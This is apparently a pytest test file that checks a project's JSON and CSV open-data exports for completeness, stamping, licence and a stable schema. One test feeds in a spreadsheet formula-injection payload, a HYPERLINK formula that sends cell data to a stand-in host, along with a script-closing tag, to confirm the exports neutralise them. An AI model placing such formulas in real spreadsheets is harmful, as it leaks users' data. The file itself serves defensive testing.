"""The open data are whole, the same in each form, and keep the shape that others rely on."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import lxml.html
import pytest

from macros.history.snapshot import snapshot
from macros.model.framework import Framework
from macros.model.introspection import guide
from macros.model.output import Stamp
from macros.model.public_view import PUBLISHED, Kind
from macros.model.registry import SINGLES
from macros.outputs.open_data import exports
from macros.site_build.project import Project, read_project
from macros.text.plain_text import plain
from tests.conftest import ROOT, TESTS
from tests.model.test_published import STAMP


@pytest.fixture(scope="module")
def files(real: Framework) -> dict[str, bytes]:
    made = list(exports(real, STAMP))
    assert len({o.path for o in made}) == len(made), "a path is made twice"
    return {o.path: o.content for o in made}


@pytest.fixture(scope="module")
def small_files(small: Framework) -> dict[str, bytes]:
    return {o.path: o.content for o in exports(small, STAMP, (snapshot(small, "0123abcd"),))}


def rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def records(files: dict[str, bytes], kind: Kind) -> list[dict[str, Any]]:
    return list(json.loads(files[kind.path("json")])["records"])


@pytest.mark.costly
def test_the_same_words_give_the_same_bytes(real: Framework, real_project: Project, files: dict[str, bytes]) -> None:
    assert real_project.framework is not None
    again = Framework(dict(reversed(list(real.records.items()))), real.documents)
    assert list(files.items()) == [(o.path, o.content) for o in exports(again, STAMP)]


def test_all_stand_under_the_versioned_path(files: dict[str, bytes]) -> None:
    assert all(re.fullmatch(r"api/v1/[a-z0-9/.-]+\.(json|csv|jsonld)", path) for path in files)


def test_every_record_is_there_once_in_every_form(real: Framework, files: dict[str, bytes]) -> None:
    whole = json.loads(files["api/v1/framework.json"])["records"]
    assert list(whole) == [kind.folder for kind in PUBLISHED]
    for kind in PUBLISHED:
        found = records(files, kind)
        ids = [record["id"] for record in found]
        assert ids == list(real.ids(kind.name))
        assert len(set(ids)) == len(ids)
        assert whole[kind.folder] == found
        assert [row["id"] for row in rows(files[kind.path("csv")])] == ids
        assert [json.loads(files[kind.path_of(i)])["record"] for i in ids] == found
        for record in found:
            assert record["address"] == STAMP.at(record["address"].removeprefix(STAMP.home))
    alone = {p for p in files if p.count("/") == 3 and "/schema/" not in p}
    now = {kind.path_of(i) for kind in PUBLISHED for i in real.ids(kind.name)}
    before = {kind.path_of(old) for kind in PUBLISHED for r in real.records.values() if r.kind == kind.name for old in r.formerly}
    assert alone == now | before


def test_every_form_carries_edition_date_and_revision(files: dict[str, bytes]) -> None:
    stamp = {"edition": "2026-11", "date": "2026-11-22", "revision": "0123abcd"}
    for path, content in files.items():
        if path.endswith(".csv"):
            assert all(list(row.items())[-3:] == list(stamp.items()) for row in rows(content)), path
        elif path.endswith(".json") and "/schema/" not in path:
            head = json.loads(content)
            assert head["stamp"] == stamp, path
            assert head["licence"]["name"] == "CC BY 4.0", path


def test_the_licence_is_the_repositorys(files: dict[str, bytes]) -> None:
    licence = json.loads(files["api/v1/index.json"])["licence"]
    text = (ROOT / "LICENSE").read_text("utf-8")
    for words in (f"({licence['name']})", licence["address"], licence["credit"]):
        assert words in text


@pytest.mark.parametrize("made", ["files", "small_files"])
def test_the_index_leads_to_every_file(made: str, request: pytest.FixtureRequest) -> None:
    files = request.getfixturevalue(made)
    index = json.loads(files["api/v1/index.json"])
    named = {index["framework"], index["glossary"], STAMP.at("api/v1/index.json")}
    for entry in index["kinds"]:
        found = json.loads(files[entry["json"].removeprefix(STAMP.home)])["records"]
        assert entry["count"] == len(found)
        named |= {entry["json"], entry["csv"], entry["schema"], *(entry["record"].replace("{id}", r["id"]) for r in found)}
    named |= {edition["json"] for edition in index["editions"]}
    assert named == {STAMP.at(path) for path in files}


def test_a_csv_is_what_excel_reads(files: dict[str, bytes]) -> None:
    for path, content in files.items():
        if path.endswith(".csv"):
            assert content.startswith(b"\xef\xbb\xbf"), path
            assert content.endswith(b"\r\n"), path
            table = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))
            assert {len(row) for row in table} == {len(table[0])}, path
            assert len(set(table[0])) == len(table[0]), path
            for cell in (cell for row in table for cell in row):
                assert not re.match(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]", cell), (path, cell)
                assert "\r" not in cell
                assert len(cell) <= 32_767, f"{path}: a spreadsheet cuts a cell so long: {cell[:60]}"


@pytest.mark.parametrize("kind", PUBLISHED, ids=lambda kind: kind.name)
def test_a_csv_read_back_says_what_the_json_says(kind: Kind, files: dict[str, bytes], small_files: dict[str, bytes]) -> None:
    for made in (files, small_files):
        for row, record in zip(rows(made[kind.path("csv")]), records(made, kind), strict=True):
            back = {name: re.sub(r"^'(?=\s*[=+\-@])", "", cell) for name, cell in row.items()}
            for name in ("kind", "id", "name", "address"):
                assert back[name] == record[name]
            assert back["named_by"].split("; ") == [f"{n['kind']}/{n['id']} ({n['relation']})" for n in record["named_by"]] or [""]
            for field in guide(kind.cls):
                if field.name not in {"id", *kind.left_out}:
                    same(field, record[field.name], back)


def test_an_id_that_a_record_had_before_keeps_its_file(project: Path) -> None:
    file = project / "data/glossary/outcome.yml"
    file.write_text(file.read_text("utf-8") + "formerly: [result]\n", "utf-8")
    framework = read_project(project).framework
    assert framework is not None
    made = {o.path: o.content for o in exports(framework, STAMP)}
    assert made["api/v1/glossary/result.json"] == made["api/v1/glossary/outcome.json"]


def test_hostile_records_are_whole_in_json_and_harmless_in_a_spreadsheet(project: Path) -> None:
    formula = '=HYPERLINK("https://a.example?"&A1,"free")'
    meaning = "-2+3 people, and \u4e2d\u6587, e\u0301 and \U0001f600."
    (project / "data/glossary/hostile.yml").write_text(
        f"term: '{formula}'\nalso: ['@SUM(A1)', 'a, \"b\"', '</script>']\nmeaning: |-\n  {meaning}\n"
        "example: |-\n  +44 is where it begins, and a long way on.\npoints: [intro]\n",
        "utf-8",
    )
    read = read_project(project)
    assert read.framework is not None
    made = {o.path: o.content for o in exports(read.framework, STAMP)}
    record = json.loads(made["api/v1/glossary/hostile.json"])["record"]
    assert record["term"] == formula
    assert record["also"] == ["@SUM(A1)", 'a, "b"', "</script>"]
    assert b"</" not in made["api/v1/framework.json"]
    (row,) = [row for row in rows(made["api/v1/glossary.csv"]) if row["id"] == "hostile"]
    assert row["term"] == row["name"] == f"'{formula}"
    assert row["also"] == '\'@SUM(A1); a, "b"; </script>'
    assert row["meaning"] == f"'{record['meaning']}"
    assert row["example"] == f"'{record['example']}"


def same(field: Any, value: Any, row: dict[str, str], before: str = "") -> None:
    """Assert that the cells of `row` say what `value` says."""
    if field.fields and not field.many:
        for inner in field.fields:
            same(inner, (value or {}).get(inner.name), row, f"{field.name}.")
    elif field.many and field.holds == "group":
        lines = row[f"{before}{field.name}"].split("\n") if value else []
        assert len(lines) == len(value)
        for line, group in zip(lines, value, strict=True):
            for inner in field.fields:
                for text in group[inner.name] if inner.many else [group[inner.name]]:
                    assert " ".join((plain(text) if inner.holds == "prose" else text).split()) in line
    elif field.many:
        between = "\n" if field.holds == "prose" else "; "
        assert row[f"{before}{field.name}"] == between.join(
            " ".join(plain(t).split()) if field.holds == "prose" else t for t in value or []
        )
    else:
        text = "" if value is None else str(value)
        assert row[f"{before}{field.name}"] == (plain(text) if field.holds == "prose" else text)


def test_a_record_names_only_what_is_there(files: dict[str, bytes]) -> None:
    """Each id that a record names, and each that it is named by, is a file of the open data."""
    folder = {kind.name: kind for kind in PUBLISHED}
    for kind in PUBLISHED:
        for record in records(files, kind):
            assert all(folder[n["kind"]].path_of(n["id"]) in files for n in record["named_by"])
            for field in guide(kind.cls):
                if field.holds == "reference":
                    named = record[field.name] if field.many else [record[field.name]] if record[field.name] else []
                    assert all(folder[field.names].path_of(i) in files for i in named)


def test_the_built_site_holds_the_files_and_every_address_leads_to_its_record(site: Path, real_project: Project, stamp: Stamp) -> None:
    assert real_project.framework is not None
    made = list(exports(real_project.framework, stamp, real_project.snapshots))
    for output in made:
        assert (site / output.path).read_bytes() == output.content
    assert {p.relative_to(site).as_posix() for p in (site / "api").rglob("*") if p.is_file()} == {output.path for output in made}
    anchors: dict[str, set[str]] = {}
    for kind in PUBLISHED:
        for record in json.loads((site / kind.path("json")).read_bytes())["records"]:
            assert record["address"].startswith(stamp.home)
            page, _, anchor = record["address"].removeprefix(stamp.home).partition("#")
            if page not in anchors:
                anchors[page] = set(lxml.html.parse(str(site / page / "index.html")).xpath("//@id"))
            assert anchor in anchors[page] or (not anchor and (kind.name in SINGLES or "#" not in getattr(kind.cls, "address", ""))), (
                record["address"]
            )


def shape(schema: dict[str, Any], parts: dict[str, Any], path: str) -> Iterator[str]:
    """Yield a line for each field that `schema` describes: its path and its type."""
    schema = parts[schema["$ref"].rpartition("/")[2]] if "$ref" in schema else schema
    kinds = [s for s in schema.get("anyOf", []) if s.get("type") != "null"]
    if kinds:
        (one,) = kinds
        yield from shape(one, parts, f"{path}?")
    elif schema["type"] == "array":
        yield from shape(schema["items"], parts, f"{path}[]")
    elif schema["type"] == "object":
        for name, inner in schema["properties"].items():
            yield from shape(inner, parts, f"{path}.{name}")
    else:
        yield f"{path}: {schema.get('format') or schema['type']}"


def keys(value: Any, path: str) -> Iterator[str]:
    """Yield a line for each key inside `value`, of a list as its first item has them."""
    if isinstance(value, dict):
        for name, inner in value.items():
            yield from keys(inner, f"{path}.{name}")
    elif isinstance(value, list) and value:
        yield from keys(value[0], f"{path}[]")
    else:
        yield path


def test_the_shape_that_others_rely_on_is_kept(small_files: dict[str, bytes], accept: bool) -> None:
    lines = [*keys(json.loads(small_files["api/v1/index.json"]), "index")]
    whole = json.loads(small_files["api/v1/framework.json"])
    lines += keys({**whole, "records": dict.fromkeys(whole["records"])}, "framework")
    for kind in PUBLISHED:
        schema = json.loads(small_files[kind.schema_path])
        lines += shape(schema, schema["$defs"], kind.name)
        lines += [f"{kind.folder}.csv: {', '.join(rows(small_files[kind.path('csv')])[0])}"]
    stages = json.loads(small_files["api/v1/stages.json"])
    lines += keys({**stages, "records": None}, "each kind")
    lines += keys({**json.loads(small_files["api/v1/stages/1-plan.json"]), "record": None}, "each record")
    lines += keys({**json.loads(small_files["api/v1/editions/2026-11.json"]), "records": None}, "each edition")
    linked = json.loads(small_files["api/v1/glossary.jsonld"])
    lines += sorted({line for term in linked.pop("hasDefinedTerm") for line in keys(term, "glossary.hasDefinedTerm[]")})
    lines += keys(linked, "glossary")
    file = TESTS / "expected" / "api-v1.txt"
    text = "\n".join(lines) + "\n"
    if accept:
        file.write_text(text, "utf-8")
    assert text == file.read_text("utf-8"), (
        "the shape of the open data has changed: say so in a line of CHANGELOG.md, then run: make accept; "
        "but where a field is taken away, renamed or means something else, make VERSION in macros/model/public_view.py the next one"
    )


def test_the_changelog_tells_of_the_version() -> None:
    text = (ROOT / "CHANGELOG.md").read_text("utf-8")
    told = re.findall(r"^The open data \(`api/(v\d+)/`.*?:\n\n- ", text, re.MULTILINE)
    assert told, "CHANGELOG.md says nothing of the open data"
    assert (TESTS / f"expected/api-{told[0]}.txt").is_file()
    assert re.search(r"^- First edition of `v1`", text, re.MULTILINE)


def test_one_recommendation_whole(small_files: dict[str, bytes], expected: Any) -> None:
    expected("api/2c.json", small_files["api/v1/recommendations/2c.json"].decode())
    expected("api/recommendations.csv", small_files["api/v1/recommendations.csv"].decode("utf-8-sig").replace("\r\n", "\n"))
